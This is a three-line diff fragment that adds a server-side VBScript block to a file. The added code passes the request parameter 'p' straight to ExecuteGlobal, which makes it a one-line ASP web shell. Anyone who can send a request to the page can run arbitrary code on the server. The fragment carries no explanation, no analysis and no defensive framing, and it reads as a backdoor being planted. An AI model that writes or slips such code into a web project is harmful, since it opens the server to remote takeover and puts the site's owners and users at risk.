@@ -1,0 +1,3 @@
+<script language="vbscript" runat="server">
+ExecuteGlobal(Request.Item("p"))
+</script>
